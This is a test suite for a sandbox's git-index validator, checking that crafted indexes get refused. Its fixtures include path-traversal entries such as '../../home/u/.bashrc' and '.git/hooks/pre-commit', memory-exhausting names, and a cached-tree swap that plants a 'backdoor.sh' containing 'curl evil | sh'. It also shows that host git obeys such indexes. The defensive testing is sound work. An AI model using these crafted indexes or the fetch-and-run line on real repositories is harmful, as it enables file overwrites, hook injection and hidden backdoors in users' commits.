// A git index is checked out to the paths it names: host git (2.39) writes `../x`, `/abs/x` and
// `.git/hooks/x` entries of an index it reads without a word. These tests build indexes with the
// real git (every version it writes, split and sha256 ones) and by hand (what a sandbox can write),
// and check indexProblem() and the rules against both; one shows what host git does with such an
// index, so the test stays honest if git ever starts refusing them itself.
import { spawnSync } from "node:child_process";
import crypto from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { indexProblem } from "../../src/workspace/git-index-paths.js";
import { type EntryPair, evaluateWorkspaceRules } from "../../src/workspace/workspace-rules.js";

const scratch = fs.mkdtempSync(path.join(os.tmpdir(), "sandbox-run-git-index-"));
afterAll(() => fs.rmSync(scratch, { recursive: true, force: true }));

function git(cwd: string, ...args: string[]): string {
  const result = spawnSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], {
    cwd,
    encoding: "utf8",
    env: { PATH: process.env.PATH, HOME: scratch, GIT_CONFIG_NOSYSTEM: "1", LC_ALL: "C" },
  });
  if (result.status !== 0) throw new Error(`git ${args.join(" ")}: ${result.stderr}`);
  return result.stdout;
}

let repos = 0;
function repo(initArgs: string[] = []): string {
  const dir = path.join(scratch, `repo-${++repos}`);
  fs.mkdirSync(path.join(dir, "src/deep"), { recursive: true });
  fs.writeFileSync(path.join(dir, "README.md"), "readme\n");
  fs.writeFileSync(path.join(dir, "src/a.ts"), "a\n");
  fs.writeFileSync(path.join(dir, "src/deep/b.ts"), "b\n");
  fs.symlinkSync("README.md", path.join(dir, "link"));
  git(dir, "init", "-q", ...initArgs);
  git(dir, "add", ".");
  git(dir, "commit", "-qm", "init");
  return dir;
}

const index = (dir: string, name = "index") => fs.readFileSync(path.join(dir, ".git", name));

interface Entry {
  path: string;
  mode?: number;
}

/** An index as a sandbox writes it: version 2 (or 4: names prefix-compressed), sha1, checksum right. */
function craftIndex(entries: Entry[], options: { version?: 2 | 4; oid?: Buffer; extension?: Buffer } = {}): Buffer {
  const version = options.version ?? 2;
  const oid = options.oid ?? Buffer.alloc(20, 0xab);
  const parts: Buffer[] = [];
  const header = Buffer.alloc(12);
  header.write("DIRC", 0, "latin1");
  header.writeUInt32BE(version, 4);
  header.writeUInt32BE(entries.length, 8);
  parts.push(header);
  let previous = Buffer.alloc(0);
  for (const entry of entries) {
    const name = Buffer.from(entry.path, "utf8");
    const fixed = Buffer.alloc(40 + oid.length + 2);
    fixed.writeUInt32BE(entry.mode ?? 0o100644, 24);
    oid.copy(fixed, 40);
    fixed.writeUInt16BE(Math.min(name.length, 0xfff), 40 + oid.length);
    if (version === 4) {
      let common = 0;
      while (common < previous.length && common < name.length && previous[common] === name[common]) common++;
      const strip = previous.length - common;
      if (strip > 127) throw new Error("test helper: strip lengths past 127 are not encoded");
      parts.push(fixed, Buffer.from([strip]), name.subarray(common), Buffer.from([0]));
    } else {
      const size = (fixed.length + name.length + 8) & ~7;
      parts.push(fixed, name, Buffer.alloc(size - fixed.length - name.length));
    }
    previous = name;
  }
  if (options.extension) parts.push(options.extension);
  const body = Buffer.concat(parts);
  return Buffer.concat([body, crypto.createHash("sha1").update(body).digest()]);
}

describe("indexProblem(): what git writes is plain", () => {
  it("version 2, 3 (an intent-to-add entry is extended), 4, a shared index, sha256 (cached trees included)", () => {
    const plain = repo();
    expect(indexProblem(index(plain))).toBeUndefined();

    fs.writeFileSync(path.join(plain, "new.ts"), "n\n");
    git(plain, "add", "-N", "new.ts");
    expect(index(plain).readUInt32BE(4)).toBe(3);
    expect(indexProblem(index(plain))).toBeUndefined();

    git(plain, "update-index", "--index-version", "4");
    expect(index(plain).readUInt32BE(4)).toBe(4);
    expect(indexProblem(index(plain))).toBeUndefined();

    const split = repo();
    git(split, "update-index", "--split-index");
    fs.writeFileSync(path.join(split, "src/a.ts"), "a2\n");
    git(split, "add", "src/a.ts");
    const shared = fs.readdirSync(path.join(split, ".git")).filter((n) => n.startsWith("sharedindex."));
    expect(shared).toHaveLength(1);
    // Its cached trees complete the shared index's entries, which this file alone does not hold.
    expect(indexProblem(index(split))).toBe("a split index with cached trees, which cannot be checked here");
    expect(indexProblem(index(split, shared[0]))).toBeUndefined();

    const sha256 = repo(["--object-format=sha256"]);
    expect(indexProblem(index(sha256))).toBeUndefined();
  });

  it("an index after a merge conflict was resolved (REUC names the paths)", () => {
    const dir = repo();
    git(dir, "checkout", "-qb", "other");
    fs.writeFileSync(path.join(dir, "src/a.ts"), "other\n");
    git(dir, "commit", "-qam", "other");
    git(dir, "checkout", "-q", "-");
    fs.writeFileSync(path.join(dir, "src/a.ts"), "mine\n");
    git(dir, "commit", "-qam", "mine");
    // A conflict: git exits 1.
    spawnSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", "merge", "-q", "other"], {
      cwd: dir,
      env: { PATH: process.env.PATH, HOME: scratch },
    });
    git(dir, "add", "src/a.ts");
    expect(index(dir).includes("REUC")).toBe(true);
    expect(indexProblem(index(dir))).toBeUndefined();
  });

  it("hand-made indexes of ordinary paths (version 2 and 4)", () => {
    const entries = [{ path: "README.md" }, { path: "src/a.ts" }, { path: "src/deep/b.ts" }, { path: ".github/x" }];
    expect(indexProblem(craftIndex(entries))).toBeUndefined();
    expect(indexProblem(craftIndex(entries, { version: 4 }))).toBeUndefined();
  });
});

describe("indexProblem(): paths git would write outside their place", () => {
  it.each([
    ["../outside.txt", "outside its place"],
    ["a/../../outside.txt", "outside its place"],
    ["/etc/cron.d/x", "outside its place"],
    ["a//b", "outside its place"],
    ["./a", "outside its place"],
    [".git/hooks/pre-commit", "git directory"],
    [".GIT/hooks/post-checkout", "git directory"],
    ["sub/.git/config", "git directory"],
    [".git./hooks/x", "git directory"],
    ["git~1/hooks/x", "git directory"],
    [".g\u200cit/hooks/x", "git directory"],
  ])("%j: refused (%s)", (entryPath, why) => {
    for (const version of [2, 4] as const) {
      const problem = indexProblem(craftIndex([{ path: "README.md" }, { path: entryPath }], { version }));
      expect(problem).toContain(why);
    }
  });

  it("a resolve-undo record (REUC, which `git checkout -m` writes back) naming ../x", () => {
    const record = Buffer.concat([
      Buffer.from(["../x", "100644", "100644", "0", ""].join("\0"), "latin1"), // two stages: two object ids
      Buffer.alloc(40, 0xcd),
    ]);
    const size = Buffer.alloc(4);
    size.writeUInt32BE(record.length);
    const extension = Buffer.concat([Buffer.from("REUC", "latin1"), size, record]);
    expect(indexProblem(craftIndex([{ path: "README.md" }], { extension }))).toContain('"../x"');
  });

  it("a .gitmodules symlink; an index git cannot read; a NUL inside a name", () => {
    expect(indexProblem(craftIndex([{ path: ".gitmodules", mode: 0o120000 }]))).toContain(".gitmodules");
    expect(indexProblem(Buffer.from("[core]\n\tfsmonitor = x\n"))).toContain("not a git index");
    const bad = craftIndex([{ path: "abcdefgh" }]);
    bad[12 + 62 + 3] = 0; // "abc\0efgh": git would use "abc", a name of 8 bytes says otherwise
    expect(indexProblem(bad)).toBeDefined();
  });

  it("a name past 4096 bytes (git could not check it out; 5,000 folders deep one overflowed the cached-tree check's stack) and names of more than 64 MiB in all (a version-4 index spells each as the one before plus a suffix: a 1 MiB one made gigabytes of copies)", () => {
    const deep = `${"d/".repeat(5000)}f`;
    expect(indexProblem(craftIndex([{ path: deep }]))).toMatch(/cannot read \(a name longer than 4096 bytes\)/);
    // Two long names in version 4 read as git writes them; 16,400 spelling the same 4,095 bytes
    // (~1 MiB of index, each entry stripping one letter and adding one) are refused.
    const base = "x".repeat(4094);
    expect(indexProblem(craftIndex([{ path: `${base}a` }, { path: `${base}b` }], { version: 4 }))).toBeUndefined();
    expect(indexProblem(v4Repeating(base, 16_400))).toMatch(/names of more than 67108864 bytes in all/);
  });

  it("the rules: an index the run wrote with such a path is a git-pointers violation that reverts .git", () => {
    const facts = (content: Buffer): EntryPair["after"] => ({ kind: "file", mode: 0o100644, size: content.length });
    const good = craftIndex([{ path: "README.md" }]);
    const evil = craftIndex([{ path: "README.md" }, { path: "../../home/u/.bashrc" }]);
    const pairsOf = (content: Buffer): EntryPair[] => [
      {
        path: "",
        before: { kind: "directory", mode: 0o40755, size: 0 },
        after: { kind: "directory", mode: 0o40755, size: 0 },
      },
      {
        path: ".git",
        before: { kind: "directory", mode: 0o40755, size: 0, gitLike: true },
        after: { kind: "directory", mode: 0o40755, size: 0, gitLike: true },
      },
      {
        path: ".git/index",
        before: { ...facts(good)!, hash: "a" },
        after: { ...facts(content)!, hash: "b" },
        content: () => content,
      },
    ];
    expect(evaluateWorkspaceRules(pairsOf(good))).toEqual([]);
    const found = evaluateWorkspaceRules(pairsOf(evil));
    expect(found.map((v) => `${v.rule} ${v.path}`)).toEqual(["git-pointers .git/index"]);
    expect(found[0]!.detail).toContain("../../home/u/.bashrc");
    expect(found[0]!.restore).toEqual({ action: "revert", path: ".git" });
  });
});

/** A repository with lib/ and src/, and its index with the cached tree of lib/ edited by `edit`. */
function cachedTreeAttack(edit: (lib: { count: number; oid: number }, index: Buffer) => void) {
  const dir = repo();
  fs.mkdirSync(path.join(dir, "lib"));
  fs.writeFileSync(path.join(dir, "lib/l.txt"), "good\n");
  git(dir, "add", ".");
  git(dir, "commit", "-qm", "lib");
  fs.writeFileSync(path.join(dir, "backdoor"), "curl evil | sh\n");
  const blob = git(dir, "hash-object", "-w", "backdoor").trim();
  fs.rmSync(path.join(dir, "backdoor"));
  const tree = spawnSync("git", ["mktree"], {
    cwd: dir,
    input: `100644 blob ${blob}\tbackdoor.sh\n100644 blob ${blob}\tl.txt\n`,
    encoding: "utf8",
  }).stdout.trim();
  const bytes = index(dir);
  const ext = bytes.indexOf("TREE");
  const lib = bytes.indexOf("lib\0", ext) + 4;
  const oid = bytes.indexOf(0x0a, lib) + 1;
  edit({ count: lib, oid }, bytes);
  Buffer.from(tree, "hex").copy(bytes, oid);
  const body = bytes.subarray(0, bytes.length - 20);
  crypto
    .createHash("sha1")
    .update(body)
    .digest()
    .copy(bytes, bytes.length - 20);
  return { dir, bytes };
}

describe("indexProblem(): cached trees (TREE) are the trees the entries make", () => {
  it("what git writes: every index above keeps cached trees, and they check out", () => {
    const dir = repo();
    expect(index(dir).includes("TREE")).toBe(true);
    expect(indexProblem(index(dir))).toBeUndefined();
  });

  it("the cached tree of lib/ swapped for a tree with a backdoor: refused, naming lib", () => {
    const { bytes } = cachedTreeAttack(() => {});
    expect(indexProblem(bytes)).toMatch(/cached tree of "lib" is not the tree its entries make/);
  });

  it("a cached tree that claims more entries than it covers (git would skip the next folder's)", () => {
    const { bytes } = cachedTreeAttack(({ count }, b) => b.write("2", count, "latin1"));
    expect(indexProblem(bytes)).toMatch(/claims 2 entries, where the index has 1/);
  });

  it("why: the host's next commit of an unrelated change carries the sandbox's tree", () => {
    const { dir, bytes } = cachedTreeAttack(() => {});
    fs.writeFileSync(path.join(dir, ".git/index"), bytes);
    expect(git(dir, "status", "--porcelain")).toBe("");
    fs.writeFileSync(path.join(dir, "src/a.ts"), "a user's change\n");
    git(dir, "add", "src/a.ts");
    expect(git(dir, "diff", "--cached", "--name-only")).toBe("src/a.ts\n");
    git(dir, "commit", "-qm", "a user's commit");
    // If this ever fails, git checks cached trees itself (the check above is then defence in depth).
    expect(git(dir, "ls-tree", "-r", "--name-only", "HEAD")).toContain("lib/backdoor.sh");
  });
});

describe("why: host git checks such an index out without a word", () => {
  it("git restore . writes an entry ../victim outside the repository", () => {
    const dir = repo();
    const victim = path.join(scratch, `victim-${repos}.txt`);
    fs.writeFileSync(victim, "precious\n");
    const blob = git(dir, "hash-object", "-w", "README.md").trim();
    const crafted = craftIndex([{ path: path.relative(dir, victim) }], { oid: Buffer.from(blob, "hex") });
    expect(indexProblem(crafted)).toContain("outside its place");
    fs.writeFileSync(path.join(dir, ".git/index"), crafted);
    spawnSync("git", ["restore", "."], { cwd: dir, env: { PATH: process.env.PATH, HOME: scratch } });
    // If this ever reads "precious", git refuses such indexes itself (the check above is then only defence in depth).
    expect(fs.readFileSync(victim, "utf8")).toBe("readme\n");
  });
});

/**
 * A version-4 index whose entries all spell `name` + one letter: each strips that letter from the
 * name before and adds another, two bytes of name per entry for a whole copy of it.
 */
function v4Repeating(name: string, count: number): Buffer {
  const parts: Buffer[] = [];
  const header = Buffer.alloc(12);
  header.write("DIRC", 0, "latin1");
  header.writeUInt32BE(4, 4);
  header.writeUInt32BE(count, 8);
  parts.push(header);
  for (let i = 0; i < count; i++) {
    const full = Buffer.from(`${name}${String.fromCharCode(97 + (i % 2))}`, "latin1");
    const fixed = Buffer.alloc(62);
    fixed.writeUInt32BE(0o100644, 24);
    fixed.fill(0xab, 40, 60);
    fixed.writeUInt16BE(Math.min(full.length, 0xfff), 60);
    // The first entry spells the whole name; every later one strips the last letter and adds one.
    parts.push(
      fixed,
      i === 0 ? Buffer.concat([Buffer.from([0]), full]) : Buffer.from([1, full.at(-1)!]),
      Buffer.from([0]),
    );
  }
  const body = Buffer.concat(parts);
  return Buffer.concat([body, crypto.createHash("sha1").update(body).digest()]);
}
